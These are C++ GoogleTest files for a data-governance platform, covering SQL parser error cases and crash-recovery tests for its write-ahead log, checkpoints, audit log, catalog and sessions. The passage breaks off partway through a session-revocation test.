  EXPECT_EQ(m.action, AlterPolicyStatement::Action::kSetColumnMask);
  EXPECT_EQ(m.column, "ssn");

  auto drop_mask = ParseSql("ALTER TABLE t ALTER COLUMN ssn DROP MASK");
  ASSERT_TRUE(drop_mask.ok());
}

TEST(ParserTest, DropAndRefresh) {
  auto drop = ParseSql("DROP TABLE main.s.t");
  ASSERT_TRUE(drop.ok());
  EXPECT_EQ(std::get<DropTableStatement>(*drop).name, "main.s.t");
  auto refresh = ParseSql("REFRESH MATERIALIZED VIEW main.s.v");
  ASSERT_TRUE(refresh.ok());
  EXPECT_EQ(std::get<RefreshStatement>(*refresh).view, "main.s.v");
}

TEST(ParserTest, StandaloneExpr) {
  auto e = ParseSqlExpr("amount > 100 AND region = 'US'");
  ASSERT_TRUE(e.ok());
  EXPECT_EQ((*e)->ToString(), "((amount > 100) AND (region = 'US'))");
  EXPECT_FALSE(ParseSqlExpr("a > 1 extra_garbage").ok());
}

// ---- Parser error cases ------------------------------------------------------------------

struct BadSql {
  const char* sql;
};

class ParserErrorTest : public ::testing::TestWithParam<BadSql> {};

TEST_P(ParserErrorTest, Rejected) {
  EXPECT_FALSE(ParseSql(GetParam().sql).ok()) << GetParam().sql;
}

INSTANTIATE_TEST_SUITE_P(
    BadStatements, ParserErrorTest,
    ::testing::Values(BadSql{"SELECT"}, BadSql{"SELECT FROM t"},
                      BadSql{"SELECT a"}, BadSql{"SELECT a FROM"},
                      BadSql{"SELECT a FROM t WHERE"},
                      BadSql{"SELECT a, * FROM t"},
                      BadSql{"SELECT * FROM t GROUP BY a"},
                      BadSql{"SELECT a FROM t HAVING a > 1"},
                      BadSql{"SELECT a FROM t LIMIT x"},
                      BadSql{"CREATE TABLE t"},
                      BadSql{"CREATE TABLE t (a NOTATYPE)"},
                      BadSql{"INSERT INTO t VALUES 1, 2"},
                      BadSql{"GRANT ON t TO u"},
                      BadSql{"ALTER TABLE t SET SOMETHING"},
                      BadSql{"TRUNCATE TABLE t"},
                      BadSql{"SELECT a FROM t trailing junk, here"}));

}  // namespace
}  // namespace lakeguard
