// Crash-consistent durability tests (DESIGN.md §14): the segmented WAL and
// checkpoint protocol of src/storage/durable, the catalog / audit / session
// state owners threaded through it, and the deterministic crash–restart
// matrix. The governing invariant everywhere: recovery either reproduces
// exactly the acknowledged state, or fails CLOSED with a typed kDataLoss —
// never a permissive partial state.
//
// Layout:
//   1. DurableLog unit tests — frame replay, torn/flipped tails, mid-log
//      corruption, segment rotation, checkpoint publish + GC.
//   2. SnapshotStore — atomic publish, per-entry corruption typing.
//   3. AuditLog durability — shutdown drain regression, crash-mid-flush
//      replay with dedup, gap-free sequences.
//   4. Catalog + platform restart — exact-epoch recovery, fail-closed
//      poisoning, rolled-back-state rejection.
//   5. Session recovery — re-import with re-verification, revoked grants,
//      corrupt snapshots.
//   6. The crash matrix: every registered crash point × every applicable
//      crash mode, each followed by a restart-and-verify pass.

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "catalog/audit.h"
#include "catalog/catalog_serde.h"
#include "catalog/catalog_store.h"
#include "columnar/ipc.h"
#include "common/fault.h"
#include "core/platform.h"
#include "storage/durable/crash_points.h"
#include "storage/durable/durable_log.h"
#include "storage/durable/snapshot_store.h"

namespace lakeguard {
namespace {

namespace fs = std::filesystem;

class RecoveryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    FaultInjector::Instance().Reset();
    base_ = (fs::temp_directory_path() /
             ("lg-recovery-" + std::to_string(::getpid()) + "-" +
              ::testing::UnitTest::GetInstance()->current_test_info()->name()))
                .string();
    fs::remove_all(base_);
    fs::create_directories(base_);
  }

  void TearDown() override {
    FaultInjector::Instance().Reset();
    std::error_code ec;
    fs::remove_all(base_, ec);
  }

  std::string Dir(const std::string& name) { return base_ + "/" + name; }

  /// All payloads currently replayable from `dir`, in LSN order.
  static std::vector<std::vector<uint8_t>> Replay(const std::string& dir) {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    EXPECT_TRUE(log.ok()) << log.status();
    std::vector<std::vector<uint8_t>> payloads;
    for (const ReplayedRecord& r : recovery.records) {
      payloads.push_back(r.payload);
    }
    return payloads;
  }

  static std::vector<uint8_t> Bytes(const std::string& s) {
    return std::vector<uint8_t>(s.begin(), s.end());
  }

  static std::vector<std::string> FilesWithExtension(const std::string& dir,
                                                     const std::string& ext) {
    std::vector<std::string> out;
    for (const auto& entry : fs::directory_iterator(dir)) {
      if (entry.path().extension() == ext) {
        out.push_back(entry.path().string());
      }
    }
    return out;
  }

  std::string base_;
};

// ---- 1. DurableLog ---------------------------------------------------------------

TEST_F(RecoveryTest, WalRoundTripAcrossReopen) {
  std::string dir = Dir("wal");
  {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok()) << log.status();
    EXPECT_TRUE(recovery.records.empty());
    for (uint64_t i = 1; i <= 5; ++i) {
      auto lsn = (*log)->Append(i, Bytes("record-" + std::to_string(i)));
      ASSERT_TRUE(lsn.ok());
      EXPECT_EQ(*lsn, i);
    }
    ASSERT_TRUE((*log)->Sync().ok());
  }
  DurableLogOptions options;
  options.dir = dir;
  DurableLogRecovery recovery;
  auto log = DurableLog::Open(options, &recovery);
  ASSERT_TRUE(log.ok()) << log.status();
  ASSERT_EQ(recovery.records.size(), 5u);
  for (uint64_t i = 0; i < 5; ++i) {
    EXPECT_EQ(recovery.records[i].lsn, i + 1);
    EXPECT_EQ(recovery.records[i].stamp, i + 1);
    EXPECT_EQ(recovery.records[i].payload,
              Bytes("record-" + std::to_string(i + 1)));
  }
  // The reopened log continues the LSN sequence exactly.
  ASSERT_TRUE((*log)->AppendSync(6, Bytes("record-6")).ok());
  EXPECT_EQ((*log)->last_lsn(), 6u);
}

TEST_F(RecoveryTest, WalTornTailTruncatedOnReplay) {
  std::string dir = Dir("wal-torn");
  {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    for (uint64_t i = 1; i <= 3; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("keep")).ok());
    }
    CrashPolicy policy;
    policy.mode = CrashMode::kTornWrite;
    ScopedCrash crash("wal.append", policy);
    Status died = (*log)->Append(4, Bytes("torn-away-record")).status();
    ASSERT_TRUE(fault::IsDeath(died)) << died;
    // The dead log refuses everything from now on (zombie-thread guard).
    EXPECT_TRUE(fault::IsDeath((*log)->Sync()));
    EXPECT_TRUE(fault::IsDeath((*log)->Append(5, Bytes("zombie")).status()));
  }
  DurableLogOptions options;
  options.dir = dir;
  DurableLogRecovery recovery;
  auto log = DurableLog::Open(options, &recovery);
  ASSERT_TRUE(log.ok()) << log.status();
  EXPECT_EQ(recovery.records.size(), 3u);
  EXPECT_GT(recovery.torn_bytes_discarded, 0u);
  // The torn bytes are physically gone: a second replay is clean.
  DurableLogRecovery again;
  log = DurableLog::Open(options, &again);
  ASSERT_TRUE(log.ok());
  EXPECT_EQ(again.records.size(), 3u);
  EXPECT_EQ(again.torn_bytes_discarded, 0u);
}

TEST_F(RecoveryTest, WalBitFlippedTailTruncatedOnReplay) {
  std::string dir = Dir("wal-flip");
  {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    for (uint64_t i = 1; i <= 3; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("keep")).ok());
    }
    CrashPolicy policy;
    policy.mode = CrashMode::kBitFlip;
    ScopedCrash crash("wal.append", policy);
    Status died = (*log)->Append(4, Bytes("flipped")).status();
    ASSERT_TRUE(fault::IsDeath(died));
  }
  // The flipped record was never acknowledged (the append died), so CRC
  // failure at the exact end of the final segment is an unacked tail — it
  // is truncated, not fatal.
  auto records = Replay(dir);
  EXPECT_EQ(records.size(), 3u);
}

TEST_F(RecoveryTest, WalMidLogCorruptionFailsClosed) {
  std::string dir = Dir("wal-midflip");
  {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    for (uint64_t i = 1; i <= 4; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("payload-" +
                                              std::to_string(i))).ok());
    }
  }
  // Flip one byte inside the FIRST record's payload: the damage is followed
  // by valid records, so this is corruption (or tampering), not a torn
  // tail. Recovery must refuse.
  auto segments = FilesWithExtension(dir, ".seg");
  ASSERT_EQ(segments.size(), 1u);
  {
    std::fstream file(segments[0],
                      std::ios::binary | std::ios::in | std::ios::out);
    file.seekp(30);  // inside record 1's payload (24-byte frame header)
    char byte = 0;
    file.seekg(30);
    file.read(&byte, 1);
    byte = static_cast<char>(byte ^ 0x40);
    file.seekp(30);
    file.write(&byte, 1);
  }
  DurableLogOptions options;
  options.dir = dir;
  DurableLogRecovery recovery;
  auto log = DurableLog::Open(options, &recovery);
  ASSERT_FALSE(log.ok());
  EXPECT_EQ(log.status().code(), StatusCode::kDataLoss) << log.status();
}

TEST_F(RecoveryTest, WalSegmentRotationReplaysAcrossSegments) {
  std::string dir = Dir("wal-segments");
  {
    DurableLogOptions options;
    options.dir = dir;
    options.max_segment_bytes = 128;  // force frequent rotation
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    for (uint64_t i = 1; i <= 40; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("record-number-" +
                                              std::to_string(i))).ok());
    }
    EXPECT_GT((*log)->stats().segments_created, 3u);
  }
  EXPECT_GT(FilesWithExtension(dir, ".seg").size(), 3u);
  auto records = Replay(dir);
  ASSERT_EQ(records.size(), 40u);
  EXPECT_EQ(records[39], Bytes("record-number-40"));
}

TEST_F(RecoveryTest, CheckpointCoversPrefixAndCollectsSegments) {
  std::string dir = Dir("wal-ckpt");
  {
    DurableLogOptions options;
    options.dir = dir;
    options.max_segment_bytes = 128;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    for (uint64_t i = 1; i <= 20; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("pre-checkpoint")).ok());
    }
    ASSERT_TRUE((*log)->WriteCheckpoint(20, Bytes("state-at-20")).ok());
    for (uint64_t i = 21; i <= 25; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("post-checkpoint")).ok());
    }
    EXPECT_GT((*log)->stats().segments_deleted, 0u);
  }
  // Only the tail survives on disk: one checkpoint, the post-checkpoint
  // segment(s), and replay = checkpoint payload + 5 records.
  EXPECT_EQ(FilesWithExtension(dir, ".ckpt").size(), 1u);
  DurableLogOptions options;
  options.dir = dir;
  DurableLogRecovery recovery;
  auto log = DurableLog::Open(options, &recovery);
  ASSERT_TRUE(log.ok()) << log.status();
  EXPECT_TRUE(recovery.has_checkpoint);
  EXPECT_EQ(recovery.checkpoint_covered_lsn, 20u);
  EXPECT_EQ(recovery.checkpoint_payload, Bytes("state-at-20"));
  ASSERT_EQ(recovery.records.size(), 5u);
  EXPECT_EQ(recovery.records[0].lsn, 21u);
}

TEST_F(RecoveryTest, CheckpointCrashMidWriteKeepsOldState) {
  std::string dir = Dir("ckpt-torn");
  {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    for (uint64_t i = 1; i <= 6; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("r" + std::to_string(i))).ok());
    }
    CrashPolicy policy;
    policy.mode = CrashMode::kTornWrite;
    ScopedCrash crash("checkpoint.write", policy);
    Status died = (*log)->WriteCheckpoint(6, Bytes("giant-checkpoint"));
    ASSERT_TRUE(fault::IsDeath(died)) << died;
  }
  // The torn checkpoint never reached its final name (tmp-write → rename):
  // recovery sees no checkpoint, a stale tmp to sweep, and the full WAL.
  DurableLogOptions options;
  options.dir = dir;
  DurableLogRecovery recovery;
  auto log = DurableLog::Open(options, &recovery);
  ASSERT_TRUE(log.ok()) << log.status();
  EXPECT_FALSE(recovery.has_checkpoint);
  EXPECT_EQ(recovery.records.size(), 6u);
  EXPECT_EQ(recovery.stale_tmp_removed, 1u);
}

TEST_F(RecoveryTest, CheckpointBitFlipFailsClosedNoStaleFallback) {
  std::string dir = Dir("ckpt-flip");
  {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    for (uint64_t i = 1; i <= 4; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("r")).ok());
    }
    CrashPolicy policy;
    policy.mode = CrashMode::kBitFlip;
    policy.flip_bit = 200;  // land inside the checkpoint payload
    ScopedCrash crash("checkpoint.write", policy);
    Status died = (*log)->WriteCheckpoint(4, Bytes("checkpoint-state"));
    ASSERT_TRUE(fault::IsDeath(died));
  }
  // The flip rode the publish to completion: the newest checkpoint exists
  // but fails its CRC. Falling back to nothing (or an older checkpoint)
  // could resurrect broader privileges, so recovery refuses outright.
  DurableLogOptions options;
  options.dir = dir;
  DurableLogRecovery recovery;
  auto log = DurableLog::Open(options, &recovery);
  ASSERT_FALSE(log.ok());
  EXPECT_EQ(log.status().code(), StatusCode::kDataLoss) << log.status();
}

TEST_F(RecoveryTest, WalFsyncCrashLeavesUnackedTailRecoverable) {
  std::string dir = Dir("wal-fsync");
  {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    ASSERT_TRUE((*log)->AppendSync(1, Bytes("acked")).ok());
    ASSERT_TRUE((*log)->Append(2, Bytes("landed-unacked")).ok());
    CrashPolicy policy;
    policy.mode = CrashMode::kAfterWrite;  // fsync happens, ack does not
    ScopedCrash crash("wal.fsync", policy);
    ASSERT_TRUE(fault::IsDeath((*log)->Sync()));
  }
  // Durable-but-unacked is MORE state, never less: both records replay.
  auto records = Replay(dir);
  ASSERT_EQ(records.size(), 2u);
  EXPECT_EQ(records[1], Bytes("landed-unacked"));
}

// ---- 2. SnapshotStore ------------------------------------------------------------

TEST_F(RecoveryTest, SnapshotStoreRoundTripAndRemove) {
  auto store = SnapshotStore::Open(Dir("snaps"));
  ASSERT_TRUE(store.ok()) << store.status();
  ASSERT_TRUE((*store)->Put("sess-a", Bytes("alpha")).ok());
  ASSERT_TRUE((*store)->Put("sess-b", Bytes("beta")).ok());
  ASSERT_TRUE((*store)->Put("sess-a", Bytes("alpha-v2")).ok());  // overwrite
  auto entries = (*store)->LoadAll();
  ASSERT_TRUE(entries.ok());
  ASSERT_EQ(entries->size(), 2u);
  EXPECT_EQ((*entries)[0].id, "sess-a");
  EXPECT_EQ((*entries)[0].payload, Bytes("alpha-v2"));
  ASSERT_TRUE((*store)->Remove("sess-a").ok());
  ASSERT_TRUE((*store)->Remove("sess-a").ok());  // idempotent
  entries = (*store)->LoadAll();
  ASSERT_TRUE(entries.ok());
  ASSERT_EQ(entries->size(), 1u);
  EXPECT_EQ((*entries)[0].id, "sess-b");
}

TEST_F(RecoveryTest, SnapshotStoreTypesCorruptEntriesNeverPartial) {
  std::string dir = Dir("snaps-corrupt");
  {
    auto store = SnapshotStore::Open(dir);
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE((*store)->Put("good", Bytes("intact payload")).ok());
    ASSERT_TRUE((*store)->Put("torn", Bytes("this one gets cut")).ok());
  }
  // Truncate one file mid-payload and drop pure garbage next to it.
  {
    std::string torn = dir + "/torn.snap";
    fs::resize_file(torn, fs::file_size(torn) - 4);
    std::ofstream garbage(dir + "/garbage.snap", std::ios::binary);
    garbage << "not a snapshot at all";
  }
  auto store = SnapshotStore::Open(dir);
  ASSERT_TRUE(store.ok());
  auto entries = (*store)->LoadAll();
  ASSERT_TRUE(entries.ok());
  ASSERT_EQ(entries->size(), 3u);
  size_t ok = 0, data_loss = 0;
  for (const SnapshotEntry& entry : *entries) {
    if (entry.status.ok()) {
      ++ok;
      EXPECT_EQ(entry.id, "good");
      EXPECT_EQ(entry.payload, Bytes("intact payload"));
    } else {
      ++data_loss;
      EXPECT_EQ(entry.status.code(), StatusCode::kDataLoss) << entry.status;
      EXPECT_TRUE(entry.payload.empty())
          << "corrupt entry leaked a partial payload";
    }
  }
  EXPECT_EQ(ok, 1u);
  EXPECT_EQ(data_loss, 2u);
}

// ---- 3. AuditLog durability ------------------------------------------------------

TEST_F(RecoveryTest, AuditShutdownDrainsEveryQueuedRecord) {
  // Regression for the old best-effort teardown: every async Record issued
  // before Shutdown must be committed — and replayable — afterwards.
  std::string dir = Dir("audit-drain");
  SimulatedClock clock(0);
  constexpr size_t kEvents = 300;  // > kMaxPending, exercises backpressure
  {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto wal = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(wal.ok());
    AuditLog audit(&clock);
    ASSERT_TRUE(audit.AttachDurability(wal->get(), recovery.records).ok());
    for (size_t i = 0; i < kEvents; ++i) {
      audit.Record("alice", "c1", "RESOLVE_TABLE",
                   "main.s.t" + std::to_string(i), true);
    }
    ASSERT_TRUE(audit.Shutdown().ok());
    EXPECT_EQ(audit.size(), kEvents);
    // Shutdown is idempotent; the destructor re-runs it harmlessly.
    ASSERT_TRUE(audit.Shutdown().ok());
  }
  DurableLogOptions options;
  options.dir = dir;
  DurableLogRecovery recovery;
  auto wal = DurableLog::Open(options, &recovery);
  ASSERT_TRUE(wal.ok());
  AuditLog restarted(&clock);
  ASSERT_TRUE(restarted.AttachDurability(wal->get(), recovery.records).ok());
  EXPECT_EQ(restarted.size(), kEvents);
}

TEST_F(RecoveryTest, AuditCrashMidFlushLosesNothingCommitted) {
  std::string dir = Dir("audit-crash");
  SimulatedClock clock(0);
  {
    DurableLogOptions options;
    options.dir = dir;
    DurableLogRecovery recovery;
    auto wal = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(wal.ok());
    AuditLog audit(&clock);
    ASSERT_TRUE(audit.AttachDurability(wal->get(), recovery.records).ok());
    ASSERT_TRUE(audit.RecordDurable("admin", "c1", "GRANT", "main.s.t",
                                    true).ok());
    ASSERT_TRUE(audit.RecordDurable("admin", "c1", "REVOKE", "main.s.t",
                                    true).ok());
    // Death in the middle of the next batch: appends may land, the sync
    // never acknowledges, the mutation they guard must not publish.
    CrashPolicy policy;
    policy.mode = CrashMode::kAfterWrite;
    policy.skip_evaluations = 1;  // first event appends, second dies
    ScopedCrash crash("audit.flush", policy);
    audit.Record("admin", "c1", "UNACKED_A", "main.s.x", true);
    audit.Record("admin", "c1", "UNACKED_B", "main.s.y", true);
    Status died = audit.Flush();
    ASSERT_TRUE(fault::IsDeath(died)) << died;
  }
  DurableLogOptions options;
  options.dir = dir;
  DurableLogRecovery recovery;
  auto wal = DurableLog::Open(options, &recovery);
  ASSERT_TRUE(wal.ok()) << wal.status();
  AuditLog restarted(&clock);
  ASSERT_TRUE(restarted.AttachDurability(wal->get(), recovery.records).ok());
  // Both durably-acked events survive; sequences are contiguous and
  // duplicate-free (replay dedups append-landed/sync-unacked twins).
  std::vector<AuditEvent> events = restarted.All();
  ASSERT_GE(events.size(), 2u);
  EXPECT_EQ(events[0].action, "GRANT");
  EXPECT_EQ(events[1].action, "REVOKE");
  std::set<uint64_t> sequences;
  for (const AuditEvent& event : events) {
    EXPECT_TRUE(sequences.insert(event.sequence).second)
        << "duplicate audit sequence " << event.sequence;
  }
  uint64_t expected = 1;
  for (uint64_t sequence : sequences) {
    EXPECT_EQ(sequence, expected++) << "gap in the recovered audit trail";
  }
}

TEST_F(RecoveryTest, AuditReplayRejectsTamperedRecord) {
  std::string dir = Dir("audit-tamper");
  SimulatedClock clock(0);
  DurableLogOptions options;
  options.dir = dir;
  {
    DurableLogRecovery recovery;
    auto wal = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(wal.ok());
    AuditEvent event;
    event.sequence = 7;  // stamp disagrees with the event body below
    ASSERT_TRUE((*wal)->AppendSync(1, EncodeAuditEvent(event)).ok());
  }
  DurableLogRecovery recovery;
  auto wal = DurableLog::Open(options, &recovery);
  ASSERT_TRUE(wal.ok());
  AuditLog audit(&clock);
  Status attached = audit.AttachDurability(wal->get(), recovery.records);
  ASSERT_FALSE(attached.ok());
  EXPECT_EQ(attached.code(), StatusCode::kDataLoss) << attached;
}

// ---- 4. Catalog + platform restart -----------------------------------------------

struct Env {
  std::unique_ptr<LakeguardPlatform> platform;
  ClusterHandle* cluster = nullptr;

  Status Sql(const std::string& sql) {
    auto ctx = platform->DirectContext(cluster, "admin");
    if (!ctx.ok()) return ctx.status();
    return cluster->engine->ExecuteSql(sql, *ctx).status();
  }
};

/// Builds a durable platform over `root`. `fresh` seeds the catalog with
/// the standard fixture (admin, alice, main.s.t + grants); a restart run
/// only re-registers IdP-owned principals/tokens — everything cataloged
/// must come back from the WAL.
Env MakeEnv(const std::string& root, bool fresh,
            uint64_t checkpoint_every = 2) {
  LakeguardPlatform::Options options;
  options.durable_root = root;
  options.catalog_checkpoint_every = checkpoint_every;
  Env env;
  env.platform = std::make_unique<LakeguardPlatform>(options);
  EXPECT_TRUE(env.platform->AddUser("admin").ok());
  EXPECT_TRUE(env.platform->AddUser("alice").ok());
  env.platform->RegisterToken("tok-admin", "admin");
  env.platform->RegisterToken("tok-alice", "alice");
  env.cluster = env.platform->CreateStandardCluster();
  if (fresh) {
    env.platform->AddMetastoreAdmin("admin");
    EXPECT_TRUE(env.platform->catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(env.platform->catalog().CreateSchema("admin", "main.s").ok());
    EXPECT_TRUE(env.Sql("CREATE TABLE main.s.t (x BIGINT, tag STRING)").ok());
    EXPECT_TRUE(env.Sql("INSERT INTO main.s.t VALUES "
                        "(1, 'a'), (2, 'b'), (3, 'c')").ok());
    EXPECT_TRUE(env.Sql("GRANT USE CATALOG ON main TO alice").ok());
    EXPECT_TRUE(env.Sql("GRANT USE SCHEMA ON main.s TO alice").ok());
    EXPECT_TRUE(env.Sql("GRANT SELECT ON main.s.t TO alice").ok());
  }
  return env;
}

TEST_F(RecoveryTest, CatalogRecoversExactEpochAndPolicies) {
  std::string root = Dir("platform");
  uint64_t epoch = 0;
  size_t audit_size = 0;
  std::map<std::string, std::vector<uint8_t>> cloud;
  {
    Env env = MakeEnv(root, /*fresh=*/true);
    ASSERT_TRUE(env.platform->durability_status().ok())
        << env.platform->durability_status();
    ASSERT_TRUE(env.Sql("ALTER TABLE main.s.t SET ROW FILTER "
                        "(tag = 'a')").ok());
    epoch = env.platform->catalog().epoch();
    audit_size = env.platform->catalog().audit().size();
    ASSERT_GT(epoch, 0u);
    // Table bytes live in (real-world durable) cloud storage, which our
    // in-memory store only simulates — carry them across the restart.
    cloud = env.platform->store().ExportObjects();
  }
  Env env = MakeEnv(root, /*fresh=*/false);
  env.platform->store().ImportObjects(std::move(cloud));
  ASSERT_TRUE(env.platform->durability_status().ok())
      << env.platform->durability_status();
  // Exact epoch, not merely "recent": PV006's epoch arithmetic depends on
  // the restarted catalog agreeing with every pre-crash binding stamp.
  EXPECT_EQ(env.platform->catalog().epoch(), epoch);
  EXPECT_EQ(env.platform->catalog().audit().size(), audit_size);
  auto table = env.platform->catalog().GetTable("main.s.t");
  ASSERT_TRUE(table.ok());
  EXPECT_TRUE(table->row_filter.has_value())
      << "row-filter policy lost across restart";
  // Grants and policies enforce as before: alice sees the filtered rows.
  auto ctx = env.platform->DirectContext(env.cluster, "alice");
  ASSERT_TRUE(ctx.ok());
  auto rows = env.cluster->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.t", *ctx);
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 1);
}

TEST_F(RecoveryTest, CheckpointedCatalogRecoversIdentically) {
  // Force many checkpoints (every publish) and verify recovery from a
  // checkpoint+tail is indistinguishable from full-log replay.
  std::string root = Dir("platform-ckpt");
  uint64_t epoch = 0;
  {
    Env env = MakeEnv(root, /*fresh=*/true, /*checkpoint_every=*/1);
    for (int i = 0; i < 5; ++i) {
      ASSERT_TRUE(env.Sql("CREATE TABLE main.s.extra" + std::to_string(i) +
                          " (y BIGINT)").ok());
    }
    epoch = env.platform->catalog().epoch();
  }
  Env env = MakeEnv(root, /*fresh=*/false, /*checkpoint_every=*/1);
  ASSERT_TRUE(env.platform->durability_status().ok())
      << env.platform->durability_status();
  EXPECT_EQ(env.platform->catalog().epoch(), epoch);
  for (int i = 0; i < 5; ++i) {
    EXPECT_TRUE(env.platform->catalog()
                    .GetTable("main.s.extra" + std::to_string(i))
                    .ok());
  }
}

TEST_F(RecoveryTest, PoisonedCatalogAuthorizesNothing) {
  std::string root = Dir("platform-poison");
  {
    // checkpoint_every high enough that no checkpoint ever publishes: the
    // whole history stays in one segment, so a byte flipped near its start
    // has valid records AFTER it — unambiguous mid-log corruption (a flip
    // in a one-record tail would be indistinguishable from a torn unacked
    // tail and legitimately truncated instead).
    Env env = MakeEnv(root, /*fresh=*/true, /*checkpoint_every=*/1000);
  }
  // Corrupt the catalog WAL mid-log (valid data after the damage) so the
  // restarted platform's recovery fails with kDataLoss.
  std::string segment;
  for (const auto& entry : fs::directory_iterator(root + "/catalog")) {
    if (entry.path().extension() == ".seg") segment = entry.path().string();
  }
  ASSERT_FALSE(segment.empty());
  {
    std::fstream file(segment,
                      std::ios::binary | std::ios::in | std::ios::out);
    char byte = 0;
    file.seekg(40);
    file.read(&byte, 1);
    byte = static_cast<char>(byte ^ 0x10);
    file.seekp(40);
    file.write(&byte, 1);
  }
  Env env = MakeEnv(root, /*fresh=*/false, /*checkpoint_every=*/1000);
  Status health = env.platform->durability_status();
  ASSERT_FALSE(health.ok());
  EXPECT_EQ(health.code(), StatusCode::kDataLoss) << health;
  // Fail closed: no resolution, no mutation, no credentials, no sessions
  // that could act on stale/unknown state.
  EXPECT_FALSE(env.platform->catalog().CreateCatalog("admin", "other").ok());
  auto ctx = env.platform->DirectContext(env.cluster, "alice");
  if (ctx.ok()) {
    auto rows = env.cluster->engine->ExecuteSql(
        "SELECT COUNT(*) AS n FROM main.s.t", *ctx);
    EXPECT_FALSE(rows.ok()) << "poisoned catalog authorized a scan";
    EXPECT_EQ(rows.status().code(), StatusCode::kDataLoss) << rows.status();
  }
}

// ---- 5. Session recovery ---------------------------------------------------------

TEST_F(RecoveryTest, SessionsRecoverAcrossRestartAndReVerify) {
  std::string root = Dir("sessions");
  std::string statement_id;
  std::map<std::string, std::vector<uint8_t>> cloud;
  {
    Env env = MakeEnv(root, /*fresh=*/true);
    auto session = env.cluster->service->OpenSession("tok-alice");
    ASSERT_TRUE(session.ok()) << session.status();
    ConnectRequest view;
    view.session_id = *session;
    view.auth_token = "tok-alice";
    view.sql = "CREATE TEMP VIEW mine AS SELECT x FROM main.s.t WHERE x > 1";
    ASSERT_TRUE(env.cluster->service->Execute(view).ok);
    auto statement = env.cluster->service->PrepareStatement(
        *session, "SELECT COUNT(*) AS n FROM mine");
    ASSERT_TRUE(statement.ok()) << statement.status();
    statement_id = *statement;
    cloud = env.platform->store().ExportObjects();
  }
  Env env = MakeEnv(root, /*fresh=*/false);
  env.platform->store().ImportObjects(std::move(cloud));
  ASSERT_TRUE(env.platform->durability_status().ok());
  auto stats = env.cluster->service->RecoverSessions();
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->recovered, 1u);
  EXPECT_EQ(stats->rejected, 0u);
  EXPECT_EQ(stats->corrupt, 0u);
  EXPECT_EQ(env.cluster->service->ActiveSessionCount(), 1u);
  // The recovered session carries its temp views and re-prepared (and
  // re-verified) statement; executing by the original statement id works.
  std::string session_id;
  {
    ConnectServiceStats service_stats = env.cluster->service->service_stats();
    EXPECT_EQ(service_stats.sessions_imported, 1u);
  }
  // Find the recovered session's id via the audit trail of the import.
  for (const AuditEvent& event :
       env.platform->catalog().audit().ForPrincipal("alice")) {
    if (event.action == "IMPORT_SESSION") session_id = event.securable;
  }
  ASSERT_FALSE(session_id.empty());
  ConnectRequest run;
  run.session_id = session_id;
  run.auth_token = "tok-alice";
  run.statement_id = statement_id;
  ConnectResponse counted = env.cluster->service->Execute(run);
  ASSERT_TRUE(counted.ok) << counted.error_message;
  auto batch = ipc::DeserializeBatch(counted.inline_chunks[0].frame);
  ASSERT_TRUE(batch.ok());
  EXPECT_EQ(batch->CellAt(0, 0).int_value(), 2);
  // Recovery retired the pre-restart snapshot and persisted the session
  // under its new id: a second recovery pass admits nothing extra.
  auto again = env.cluster->service->RecoverSessions();
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(again->recovered, 0u);
  EXPECT_EQ(env.cluster->service->ActiveSessionCount(), 1u);
}

TEST_F(RecoveryTest, RevokedPrivilegesRejectRecoveredSession) {
  std::string root = Dir("sessions-revoked");
  {
    Env env = MakeEnv(root, /*fresh=*/true);
    auto session = env.cluster->service->OpenSession("tok-alice");
    ASSERT_TRUE(session.ok());
    auto statement = env.cluster->service->PrepareStatement(
        *session, "SELECT COUNT(*) AS n FROM main.s.t");
    ASSERT_TRUE(statement.ok()) << statement.status();
    // The revocation lands AFTER the snapshot was persisted: the disk
    // state is now a stale capability the restart must not honor.
    ASSERT_TRUE(env.Sql("REVOKE SELECT ON main.s.t FROM alice").ok());
  }
